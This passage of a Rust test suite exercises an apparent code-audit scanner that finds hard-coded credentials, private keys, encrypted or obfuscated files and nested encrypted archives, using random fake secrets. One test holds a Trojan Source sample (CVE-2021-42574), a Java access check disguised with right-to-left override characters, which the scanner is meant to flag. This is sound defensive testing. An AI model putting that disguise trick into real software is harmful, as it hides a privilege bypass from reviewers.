        "src/main/java/com/acme/his/Order.java",
        "package com.acme.his;\npublic class Order {}\nclass OrderLine {}\n",
    );
    for c in ["UtilsKt", "Order", "OrderLine", "Order$1"] {
        write(d, &format!("target/classes/com/acme/his/{c}.class"), &class);
    }
    // One patched library file does not make the library the vendor's own.
    write(
        d,
        "src/main/java/org/apache/commons/io/FileUtils.java",
        "package org.apache.commons.io;\npublic class FileUtils {}\n",
    );
    write(
        d,
        "WEB-INF/lib/commons-io-2.11.0.jar",
        jar(&[("org/apache/commons/io/IOUtils.class", &class)]),
    );
    // A minified library with a licence comment, a DER private key.
    write(
        d,
        "static/js/echarts.min.js",
        format!(
            "/*\n* Licensed to the Apache Software Foundation (ASF)\n*/\n!function(){{{}}}();",
            "var a=1,b=2;".repeat(600)
        ),
    );
    let mut der = vec![0x30, 0x82, 0x04, 0xbd];
    der.extend(g.bytes(1213));
    write(d, "deploy/server.key", der);
    let (r, _) = scan(d, "");
    assert_eq!(
        hits(&r, "credential-hardcoded"),
        vec![
            (
                "code-password".into(),
                "packages/his-web/src/api.js".into(),
                Some(1)
            ),
            (
                "code-password".into(),
                "src/main/java/com/acme/his/vendor/VendorDao.java".into(),
                Some(2)
            ),
            ("key-store-file".into(), "deploy/server.key".into(), None),
        ],
        "{r}"
    );
    assert!(hits(&r, "binary-without-source").is_empty(), "{r}");
    assert!(hits(&r, "source-obfuscated").is_empty(), "{r}");
    assert!(hits(&r, "file-encrypted").is_empty(), "{r}");
}

#[test]
fn allowances_match_gbk_names_and_name_real_rules() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let mut g = Gen(12);
    let (name, _, _) = encoding_rs::GBK.encode("config/数据库.properties");
    let path = d.join(std::ffi::OsStr::from_bytes(&name));
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(&path, format!("db.password={}\n", g.chars(ALNUM, 12))).unwrap();
    let allow = "[[allow]]\ncode = \"credential-hardcoded\"\npaths = [\"config/*.properties\"]\nreason = \"test database\"\n";
    let (r, _) = scan(d, allow);
    assert!(hits(&r, "credential-hardcoded").is_empty(), "{r}");
    assert_eq!(r["allowed"][0]["silenced"], 1);

    let mdir = tempfile::tempdir().unwrap();
    let m = manifest(
        mdir.path(),
        &format!(
            "{MANIFEST}[[allow]]\ncode = \"credential-hardcoded\"\nrule = \"no-such-rule\"\npaths = [\"**\"]\nreason = \"x\"\n[[rule]]\nid = \"leaky\"\ncode = \"credential-hardcoded\"\ndescription = \"x\"\nregex = '''sign=(\\w+)'''\nkeywords = [\"sign=\"]\n"
        ),
    );
    let run = check_run(d, &m, &[]);
    assert_eq!(run.code, 2);
    assert!(
        run.stderr
            .contains("manifest.toml:8:8: [[allow]]: no scan rule is called \"no-such-rule\""),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr
            .contains("a credential-hardcoded rule needs `secret-group`"),
        "{}",
        run.stderr
    );
}

#[test]
fn archives_inside_archives_are_read_one_level_deep() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let class = class_file();
    write(
        d,
        "src/main/java/com/acme/his/App.java",
        "package com.acme.his;\npublic class App {}\n",
    );
    // A Spring Boot jar: the application's classes with their source, and a library of the
    // vendor's own without it.
    let core_jar = jar(&[("com/acme/his/core/Billing.class", &class)]);
    let lib = jar(&[
        ("org/slf4j/Logger.class", &class),
        (
            "META-INF/maven/org.slf4j/slf4j-api/pom.properties",
            b"version=2",
        ),
    ]);
    write(
        d,
        "target/his.jar",
        jar(&[
            ("BOOT-INF/classes/com/acme/his/App.class", &class),
            ("BOOT-INF/lib/his-core-1.0.jar", &core_jar),
            ("BOOT-INF/lib/slf4j-api-2.0.9.jar", &lib),
        ]),
    );
    // A password-protected zip inside a zip.
    let inner = raw_zip(&[(b"db.sql", b"create table t (a int);", 1)]);
    write(
        d,
        "backup/bundle.zip",
        raw_zip(&[(b"inner.zip", &inner, 0)]),
    );
    let (r, code) = scan(d, "");
    assert_eq!(code, 1);
    assert_eq!(
        hits(&r, "binary-without-source"),
        vec![(
            "jar-without-source".into(),
            "target/his.jar!/BOOT-INF/lib/his-core-1.0.jar".into(),
            None
        )],
        "{r}"
    );
    assert_eq!(
        hits(&r, "archive-encrypted"),
        vec![(
            "nested-archive".into(),
            "backup/bundle.zip!/inner.zip".into(),
            None
        )]
    );
}

/// Standard base64, wrapped at 76 characters.
fn base64(data: &[u8]) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(A[((n >> (18 - 6 * i)) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
        if out.len() % 77 == 76 {
            out.push('\n');
        }
    }
    out
}

#[test]
fn base64_of_random_bytes_is_an_encrypted_file() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let mut g = Gen(64);
    write(d, "config/license.lic", base64(&g.bytes(3000)));
    // Negatives: base64 of text, a PEM certificate, an embedded image as a data URI in CSS.
    write(
        d,
        "config/notes.txt",
        base64(&b"patient record export, 2026-01-01\n".repeat(100)),
    );
    write(
        d,
        "certs/ca.pem",
        format!(
            "-----BEGIN CERTIFICATE-----\n{}-----END CERTIFICATE-----\n",
            base64(&g.bytes(900))
        ),
    );
    let (r, _) = scan(d, "");
    assert_eq!(
        hits(&r, "file-encrypted"),
        vec![(
            "base64-random-content".into(),
            "config/license.lic".into(),
            None
        )],
        "{r}"
    );
}

#[test]
fn long_lines_show_only_the_match() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let mut g = Gen(4096);
    let secret = g.chars(ALNUM, 44);
    let key_body = g.chars(ALNUM, 3000);
    let token = g.chars(ALNUM, 30);
    // A minified line: a password, 2 KiB of code, then packer output.
    let js = format!(
        "var cfg={{\"password\":\"{secret}\"}};{}eval(function(p,a,c,k,e,d){{return p}}('x',1,1,'x'.split('|'),0,{{}}));",
        "a=b+c;".repeat(340)
    );
    write(d, "web/static/app.js", js);
    // A compact JSON key file: a long key, then a token on the same line.
    let key_header = ["-----BEGIN ", "PRIVATE", " KEY-----"].concat();
    write(
        d,
        "deploy/sa.json",
        format!(
            "{{\"private_key\": \"{key_header}\\n{key_body}\\n\", \"refresh_token\": \"{token}\"}}\n"
        ),
    );
    let (r, _) = scan(d, "");
    let text = format!(
        "{}{}",
        serde_json::to_string(&r).unwrap(),
        human(d, "", "en")
    );
    // Not even a few characters: a window may start anywhere inside a secret.
    for s in [&secret, &key_body, &token] {
        for i in 0..=s.len() - 5 {
            let part = &s[i..i + 5];
            assert!(!text.contains(part), "{part} of a secret printed:\n{text}");
        }
    }
    assert!(!hits(&r, "source-obfuscated").is_empty(), "{r}");
    assert!(!hits(&r, "credential-hardcoded").is_empty(), "{r}");
}

#[test]
fn defaults_of_placeholders_are_passwords() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let mut g = Gen(77);
    let default = format!("{}@2024", g.chars(ALNUM, 8));
    write(
        d,
        "config/application.properties",
        format!(
            "spring.datasource.password=${{DB_PASSWORD:{default}}}\nspring.redis.password=${{REDIS_PASSWORD}}\n"
        ),
    );
    let (r, _) = scan(d, "");
    assert_eq!(
        hits(&r, "credential-hardcoded"),
        vec![(
            "placeholder-default-password".into(),
            "config/application.properties".into(),
            Some(1)
        )]
    );
    assert!(!serde_json::to_string(&r).unwrap().contains(&default));
}

/// Key files and settings made on Windows end their lines with CR LF: they are found exactly as
/// the same files with LF line ends are.
#[test]
fn windows_line_ends_hide_no_credential() {
    let mut g = Gen(0x5eed_c0de_1234);
    let tmp = tempfile::tempdir().unwrap();
    let key_header = ["-----BEGIN ", "RSA PRIVATE", " KEY-----"].concat();
    let body = g.chars(ALNUM, 64);
    let password = g.chars(ALNUM, 14);
    for (name, eol) in [("unix", "\n"), ("windows", "\r\n")] {
        write(
            tmp.path(),
            &format!("keys/{name}.pem"),
            format!("{key_header}{eol}{body}{eol}-----END RSA PRIVATE KEY-----{eol}"),
        );
        write(
            tmp.path(),
            &format!("conf/{name}.properties"),
            format!("db.url=jdbc:mysql://db/his{eol}db.password={password}{eol}"),
        );
    }
    let (r, _) = scan(tmp.path(), "");
    let mut found = hits(&r, "credential-hardcoded");
    // One password in both files is one finding listing both places.
    for f in with_code(&r, "credential-hardcoded") {
        for l in f["locations"].as_array().into_iter().flatten() {
            found.push((String::new(), l["path"].as_str().unwrap().to_owned(), None));
        }
    }
    for name in ["unix", "windows"] {
        for path in [
            format!("keys/{name}.pem"),
            format!("conf/{name}.properties"),
        ] {
            assert!(
                found.iter().any(|(_, p, _)| *p == path),
                "{path} not found: {found:?}"
            );
        }
    }
    let text = r.to_string();
    assert!(
        !text.contains(&body) && !text.contains(&password),
        "a secret was printed"
    );
}

/// Trojan Source (CVE-2021-42574): a right-to-left override or isolate in source code makes it
/// read differently than it runs. Reported for review in source files, not in documents.
#[test]
fn bidirectional_controls_in_source_are_flagged() {
    let tmp = tempfile::tempdir().unwrap();
    // The classic "early return in a comment": the override hides where the comment ends.
    write(
        tmp.path(),
        "src/Access.java",
        "class Access {\n  boolean isAdmin(String role) {\n    /* check role \u{202e} } \u{2066}if (true) {\u{2069} \u{2066}*/\n    return role.equals(\"admin\");\n  }\n}\n",
    );
    write(tmp.path(), "src/Plain.java", "class Plain { int x = 1; }\n");
    // Documents may hold right-to-left text legitimately.
    write(tmp.path(), "docs/readme.md", "mixed \u{202b}text\u{202c}\n");
    let (r, _) = scan(tmp.path(), "");
    let found: Vec<_> = hits(&r, "backdoor-suspect")
        .into_iter()
        .filter(|(rule, _, _)| rule == "trojan-source-bidi")
        .collect();
    assert_eq!(
        found,
        [(
            "trojan-source-bidi".to_owned(),
            "src/Access.java".to_owned(),
            Some(3)
        )]
    );
    // The evidence shows the control characters escaped, never raw.
    let human = human(tmp.path(), "", "en");
    assert!(human.contains("trojan-source-bidi"), "{human}");
    assert!(!human.contains('\u{202e}'), "raw override in the report");
}

/// .NET writes RSA private keys as XML (`ToXmlString(true)`): in a key file, escaped inside a
/// `.config`, or in a C# string constant. StackExchange.Redis puts the password after a comma.
#[test]
fn dotnet_xml_keys_and_redis_passwords_are_found() {
    const B64: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut g = Gen(0x00d0_7e70_0042);
    let (modulus, d, p) = (g.chars(B64, 172), g.chars(B64, 172), g.chars(B64, 86));
    let redis = g.chars(ALNUM, 16);
    let tmp = tempfile::tempdir().unwrap();
    write(
        tmp.path(),
        "keys/server.xml",
        format!(
            "<RSAKeyValue>\n  <Modulus>{modulus}==</Modulus>\n  <Exponent>AQAB</Exponent>\n  <P>{p}==</P>\n  <D>{d}==</D>\n</RSAKeyValue>\n"
        ),
    );
    write(
        tmp.path(),
        "web/Web.config",
        format!(
            "<configuration><appSettings><add key=\"SignKey\" value=\"&lt;RSAKeyValue&gt;&lt;Modulus&gt;{modulus}&lt;/Modulus&gt;&lt;D&gt;{d}&lt;/D&gt;&lt;/RSAKeyValue&gt;\" /></appSettings></configuration>\n"
        ),
    );
    write(
        tmp.path(),
        "src/Sign.cs",
        format!("class Sign {{ const string Key = \"<RSAKeyValue><P>{p}</P></RSAKeyValue>\"; }}\n"),
    );
    write(
        tmp.path(),
        "src/appsettings.json",
        format!("{{ \"Redis\": \"10.0.0.5:6379,password={redis},connectTimeout=5000\" }}\n"),
    );
    // Public parts only, and an HTML paragraph: nothing to report.
    write(
        tmp.path(),
        "keys/public.xml",
        format!(
            "<RSAKeyValue><Modulus>{modulus}</Modulus><Exponent>AQAB</Exponent></RSAKeyValue>\n"
        ),
    );
    write(
        tmp.path(),
        "docs/help.html",
        "<p>Enter the password you were given.</p>\n",
    );
    let (r, _) = scan(tmp.path(), "");
    let found: Vec<(String, String)> = hits(&r, "credential-hardcoded")
        .into_iter()
        .map(|(rule, path, _)| (rule, path))
        .collect();
    for (rule, path) in [
        ("dotnet-xml-private-key", "keys/server.xml"),
        ("dotnet-xml-private-key", "web/Web.config"),
        ("dotnet-xml-private-key", "src/Sign.cs"),
        ("connection-string-password", "src/appsettings.json"),
    ] {
        assert!(
            found.contains(&(rule.to_owned(), path.to_owned())),
            "{rule} in {path} not found: {found:?}"
        );
    }
    assert!(
        !found
            .iter()
            .any(|(_, p)| p == "keys/public.xml" || p == "docs/help.html"),
        "{found:?}"
    );
    let text = r.to_string();
    for secret in [&d, &p, &redis] {
        assert!(!text.contains(secret.as_str()), "a secret was printed");
    }
}
